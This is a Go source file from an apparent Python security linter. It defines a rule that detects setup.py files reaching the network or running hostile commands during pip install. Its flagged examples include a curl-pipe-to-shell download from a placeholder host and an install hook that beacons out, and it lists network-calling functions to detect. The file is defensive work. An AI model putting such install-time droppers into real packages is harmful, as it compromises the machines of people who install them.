package rules

import (
	"path"
	"strings"

	"github.com/pyward/pyward/python/ast"
)

// networkFuncs are calls that reach the network.
var networkFuncs = []string{
	"urllib.request.urlopen", "urllib.request.urlretrieve", "urllib.urlopen", "urllib.urlretrieve", "urllib2.urlopen",
	"requests.get", "requests.post", "requests.put", "requests.patch", "requests.delete", "requests.head", "requests.request",
	"httpx.get", "httpx.post", "httpx.put", "httpx.request", "http.client.HTTPConnection", "http.client.HTTPSConnection",
	"socket.socket", "socket.create_connection", "ftplib.FTP", "smtplib.SMTP", "telnetlib.Telnet",
	"socket.gethostbyname", "socket.getaddrinfo", "dns.resolver.resolve", "dns.resolver.query",
	"urllib3.PoolManager", "urllib3.request", "aiohttp.ClientSession", "requests.Session", "webbrowser.open",
}

// networkFunc is networkFuncs as a set: pw102 asks it of every call.
var networkFunc = func() map[string]bool {
	m := map[string]bool{}
	for _, q := range networkFuncs {
		m[q] = true
	}
	return m
}()

// installCommands are the setuptools and distutils commands pip runs
// while building or installing a package: a subclass's methods run on
// the installing machine.
var installCommands = map[string]bool{"install": true, "develop": true, "egg_info": true, "build_py": true,
	"build_ext": true, "build": true, "sdist": true, "bdist_wheel": true, "bdist_egg": true, "install_lib": true,
	"install_scripts": true, "install_data": true, "easy_install": true, "build_clib": true, "build_scripts": true,
	"dist_info": true, "editable_wheel": true, "Command": true}

func init() {
	Register(&Rule{
		ID: "PW108", Name: "setup_py_side_effects", Severity: High, Confidence: Medium, CWE: 506,
		Message:        "setup.py reaches the network or runs a hostile command when pip builds or installs the package",
		Recommendation: "Declare dependencies and build steps in pyproject.toml; setup.py should only call setup().",
		Help: "pip runs setup.py to build or install a package, so its module-level code, the `run()` of its `cmdclass` commands " +
			"(`install`, `develop`, `egg_info`, `build_py`, `build_ext`…) and the functions they call run on the installing machine, " +
			"often as root. Malicious packages download and run their payload there, beacon the host's identity home, or start a " +
			"hidden program. Flagged: network access, `os.startfile`, and processes whose command downloads, opens a shell to the " +
			"network, or runs inline code that reaches for the network or hidden code. Not flagged: the ordinary build steps of " +
			"honest packages (`git describe`, `pkg-config`, compiler probes, `cmake`, `npm run build`, `protoc`, running the tests, " +
			"`twine upload` behind `if sys.argv[-1] == 'publish'`); Bandit's process rules still report them.",
		Flagged: []string{
			"# file: setup.py\nimport os\nos.system('curl http://x.example/p | sh')\nsetup(name='pkg')\n",
			"# file: setup.py\nimport urllib.request\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\nclass Post(install):\n    def run(self):\n        urllib.request.urlopen('http://x.example/beacon')\n        install.run(self)\n\nsetup(name='pkg', cmdclass={'install': Post})\n",
		},
		Clean: []string{
			"# file: setup.py\nfrom setuptools import setup\nsetup(name='pkg', version='1.0')\n",
			"# file: setup.py\nimport os, sys\nfrom setuptools import setup\nif sys.argv[-1] == 'publish':\n    os.system('twine upload dist/*')\n    sys.exit()\nsetup(name='pkg')\n",
			"# file: setup.py\nimport subprocess\nfrom setuptools import setup\nv = subprocess.check_output(['git', 'describe', '--tags']).decode()\nsetup(name='pkg', version=v)\n",
		},
		Kinds: []Kind{KindEnd},
		Check: func(c *Context, n ast.Node) {
			if path.Base(strings.ReplaceAll(c.File.Name, "\\", "/")) != "setup.py" || c.File.Module == nil {
				return
			}
			checkInstallTime(c, c.File.Module.Body)
		},
	})
}

// checkInstallTime reports the hostile calls of the code that runs when
// pip executes setup.py: module-level statements, the methods of install
// command classes, and the functions of the file either calls, followed
// through calls by name.
func checkInstallTime(c *Context, body []ast.Stmt) {
	funcs := map[string]ast.Node{} // module-level and method functions, by name
	var roots []ast.Node           // code that runs at install time
	for _, st := range body {
		switch s := st.(type) {
		case *ast.FunctionDef:
			funcs[s.Name] = s
		case *ast.AsyncFunctionDef:
			funcs[s.Name] = s
		case *ast.ClassDef:
			install := false
			for _, b := range s.Bases {
				if installCommands[lastPart(c.QualName(b))] {
					install = true
				}
			}
			for _, m := range s.Body {
				if f, ok := m.(*ast.FunctionDef); ok {
					if install {
						roots = append(roots, f)
					} else {
						funcs[f.Name] = f
					}
				}
			}
		default:
			roots = append(roots, st)
		}
	}
	seen := map[ast.Node]bool{}
	reported := map[*ast.Call]bool{}
	var visit func(n ast.Node)
	visit = func(root ast.Node) {
		if seen[root] {
			return
		}
		seen[root] = true
		ast.Inspect(root, func(x ast.Node) bool {
			switch x := x.(type) {
			case *ast.Lambda:
				return false
			case *ast.FunctionDef:
				return x == root
			case *ast.AsyncFunctionDef:
				return x == root
			case *ast.ClassDef:
				return false
			case *ast.Call:
				// A function of the file called here runs too.
				var name string
				switch f := x.Func.(type) {
				case *ast.Name:
					name = f.ID
				case *ast.Attribute:
					if isName(f.Value, "self") {
						name = f.Attr
					}
				}
				if fn, ok := funcs[name]; ok {
					visit(fn)
				}
				if !reported[x] && hostileInstallCall(c, x) {
					reported[x] = true
					c.Report(x)
				}
			}
			return true
		})
	}
	for _, r := range roots {
		visit(r)
	}
}

// hostileInstallCall: network access, os.startfile, or a process whose
// command line downloads, shells out to the network or runs hostile
// inline code.
func hostileInstallCall(c *Context, call *ast.Call) bool {
	q := c.CallName(call)
	if inList(q, networkFuncs) || q == "os.startfile" {
		return true
	}
	cmd, ok := c.commandText(call)
	if !ok {
		return false
	}
	return dropperCmd.MatchString(cmd) || hostileInline.MatchString(cmd)
}
